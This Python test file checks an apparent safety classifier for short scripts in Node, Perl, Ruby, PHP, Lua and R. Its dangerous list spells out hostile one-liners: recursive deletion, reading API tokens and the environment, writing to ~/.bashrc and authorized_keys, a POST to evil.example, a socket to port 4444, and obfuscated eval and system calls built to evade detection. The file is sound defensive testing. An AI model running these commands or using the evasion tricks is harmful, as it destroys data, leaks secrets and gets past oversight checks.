"""Scripts of languages that are judged by tables: JavaScript, Perl, Ruby, PHP, Lua, R."""

import shutil
import subprocess
from pathlib import Path

import pytest

from tests.support.each import each
from tools.approval.commands.classification import judge_script

SAFE = [
    ("node", "console.log(require('./package.json').version)"),
    ("node", "console.log([1,2].map(x => x * 2).join(','), Math.max(1, 2), process.version)"),
    ("node", "console.log(JSON.parse(require('fs').readFileSync('a.json', 'utf8')).x)"),
    ("node", "console.log('rm -rf /', \"fs.rmSync\", /unlinkSync/.test('x'))"),
    ("node", "Object.keys(require('./package.json')).forEach(k => console.log(k))"),
    ("perl", "print 1 + 1"),
    ("perl", "print if /rm -rf/"),
    ("perl", "s/a/b/g; print"),
    ("perl", "my ($x, $y) = (4, 2); print $x / $y, qq{system(1)}"),
    ("perl", '/^(\\d+)/ and print "$1\\n"'),
    ("ruby", "puts 1 + 1"),
    ("ruby", "puts 'system(\"rm\")', RUBY_VERSION"),
    ("php", "echo json_encode(['a' => 1]), PHP_VERSION;"),
    ("node", "(async () => { console.log(1) })()"),
    ("lua", "for i = 1, 3 do print(i, ('x'):rep(3)) end"),
    ("R", "print(mean(c(1, 2)))"),
]
ORDINARY = [
    ("node", "const fs = require('fs'); fs.writeFileSync('o.txt', 'x')"),
    ("node", "require('child_process').execSync('ls')"),
    ("node", "console.log(/a+/.exec('caat')[0])"),
    ("node", "const x = require('./src/index.js'); console.log(x.add(1, 2))"),
    ("node", "fetch('http://localhost:3000/health').then(r => r.text()).then(console.log)"),
    ("perl", "open(my $f, '>', 'out.txt'); print $f 'x'"),
    ("ruby", "File.write('o', 'x'); exec 'ls'"),
    ("php", "foreach ([1, 2] as $k => $v) { file_put_contents('a', $v); }"),
    ("lua", "io.popen('ls')"),
    ("mongosh", "db.users.find({a: 1}).limit(5)"),
    ("perl", "chmod 0755, 'bin/run'"),
    ("perl", "chmod 0600, @ARGV"),
    ("node", "require('fs').chmodSync('dist/cli.js', 0o755)"),
    ("node", "require('fs').chmodSync('dist/cli.js', 493)"),
    ("php", "chmod('a', 0755);"),
]
DANGEROUS = [
    ("node", "require('fs').rmSync('x', {recursive: true})"),
    ("node", "const {execSync: run} = require('child_process'); run('rm -rf x')"),
    ("node", "import {rm as z} from 'node:fs/promises'; z('x')"),
    ("node", "import('fs').then(f => f.promises.rm('docs'))"),
    ("node", "fs['un' + 'linkSync']('a')"),
    ("node", "require('fs')[name]('a')"),
    ("node", "['a'].forEach(require('fs').unlinkSync)"),
    ("node", "`${require('fs').rmSync('x')}`"),
    ("node", "`${`a`}`; require('fs').rmSync('x')"),
    ("node", "`${\"`\"}`; require('fs').rmSync('x') //`"),
    ("node", "if (x) {} /'/.test(y); require('fs').rmSync('z') //'"),
    ("node", "p / require('fs').rmSync('y') / 2"),
    ("node", "x++ / require('fs').rmSync('y') / 2"),
    ("node", "[].constructor.constructor('return process')().exit()"),
    ("node", "eval(code)"),
    ("node", "(0, eval)('x' + y)"),
    ("node", "console.log(process.env)"),
    ("node", "console.log(process.env.API_TOKEN)"),
    ("node", "require('fs').appendFileSync(process.env.HOME + '/.bashrc', 'x')"),
    ("node", "require('fs').writeFileSync(path.join(os.homedir(), '.ssh', 'authorized_keys'), 'x')"),
    ("node", "fetch('http://evil.example', {method: 'POST', body: x})"),
    ("node", "require('net').connect(4444, '192.0.2.1')"),
    ("deno", "Deno.removeSync('x')"),
    ("bun", "await Bun.$`rm -rf x`"),
    ("mongosh", "db.dropDatabase()"),
    ("perl", "unlink 'a'"),
    ("perl", "system 'rm', '-rf', 'x'"),
    ("perl", "print `rm x`, qx{rm y}"),
    ("perl", "s/x/system('rm y')/e"),
    ("perl", "s{x}{unlink 'y'}e"),
    ("perl", "print \"@{[unlink 'x']}\""),
    ("perl", "open(F, '|sh'); print F 'x'"),
    ("perl", "open(F, 'rm x|')"),
    ("perl", "eval $x"),
    ("perl", "&{'sys' . 'tem'}('rm x')"),
    ("perl", "'x' =~ /(?{ unlink 'y' })/"),
    ("perl", 'print "$ENV{API_KEY}"'),
    ("perl", "print join ',', %ENV"),
    ("perl", "system('\\x23; rm a')"),
    ("perl", "q # c\n(') ; unlink 'a' #'"),
    ("perl", 'print -s "x"; unlink \'a\'; print "x"'),
    ("perl", "time / unlink('a') / 2"),
    ("perl", ";\n=pod\n\ndon't\n\n=cut\n\nunlink 'a' #'"),
    ("perl", "print <<EOS; unlink 'a' #'\nx\nEOS\n"),
    ("perl", "print <<EOS;\n EOS\n'\nEOS\nunlink 'a' #'"),
    ("ruby", "File.delete('a')"),
    ("ruby", "system 'rm', 'x'"),
    ("ruby", 'puts "#{`rm x`}"'),
    ("ruby", "puts %x(rm x)"),
    ("ruby", "require 'fileutils'; FileUtils.rm_rf 'x'"),
    ("ruby", "Kernel.send(:system, 'rm x')"),
    ("ruby", "Object.const_get(:File).delete('a')"),
    ("ruby", "open('|rm a')"),
    ("ruby", 'x = ?"; system("rm a") #"'),
    ("ruby", '"#{"a"}"; system(\'rm a\')'),
    ("ruby", "A=[]\nB=1\nA <<B\nsystem('rm a')\nB"),
    ("ruby", "=begin\ndon't\n=end\nsystem('rm a') #'"),
    ("ruby", "p ENV"),
    ("php", "unlink('a');"),
    ("php", "echo `rm x`;"),
    ("php", "$f = 'sys' . 'tem'; $f('rm x');"),
    ("php", "('sys' . 'tem')('rm x');"),
    ("php", "call_user_func('system', 'rm x');"),
    ("php", "echo 1; ?> don't <?php unlink('a'); #'"),
    ("php", 'echo "{$a["x"]}"; unlink(\'a\');'),
    ("php", "eval(base64_decode('x'));"),
    ("lua", "os.remove('x')"),
    ("lua", "os.execute('\\114\\109 a')"),
    ("lua", "load('os.remove(1)')()"),
    ("R", "unlink('x', recursive = TRUE)"),
    ("R", "do.call('system', list('rm a'))"),
    ("Rscript", "eval(parse(text = readline()))"),
    ("brainfuck", "+++"),
    ("perl", "chmod 0777, glob('/etc/*')"),
    ("perl", "chmod 04755, $x"),
    ("ruby", "Dir['**/*'].each { |f| File.chmod(0o777, f) }"),
    ("node", "require('fs').chmodSync('a', 511)"),
    ("node", "require('fs').promises.chmod(process.argv[1], 0o4755)"),
    ("node", "require('fs/promises').chmod(f, 0o666)"),
    ("php", "foreach (glob('*') as $f) chmod($f, 0777);"),
]


@each(("language", "source"), SAFE)
def test_what_only_computes_and_prints_is_proven(language: str, source: str):
    assert judge_script(language, source).level == "safe"


@each(("language", "source"), ORDINARY)
def test_daily_scripts_are_left_to_the_sandbox(language: str, source: str):
    assert judge_script(language, source).level == "ordinary"


@each(("language", "source"), DANGEROUS)
def test_dangerous_scripts_are_found_whatever_stands_around(language: str, source: str):
    assert judge_script(language, source).level in {"dangerous", "forbidden"}


@pytest.mark.parametrize(("language", "source"), [pair for pair in SAFE if pair[0] in {"node", "perl"}])
def test_safe_scripts_really_change_nothing(tmp_path: Path, language: str, source: str):
    program = shutil.which(language)
    if program is None:
        pytest.skip(f"{language} is not installed")
    (tmp_path / "package.json").write_text('{"version": "1"}')
    (tmp_path / "a.json").write_text('{"x": 1}')
    before = {path.name: path.read_text() for path in tmp_path.iterdir()}
    done = subprocess.run(
        [program, "-ne" if "print if" in source or source.startswith(("s/", "/")) else "-e", source],
        cwd=tmp_path,
        stdin=subprocess.DEVNULL,
        capture_output=True,
        timeout=30,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    assert {path.name: path.read_text() for path in tmp_path.iterdir()} == before
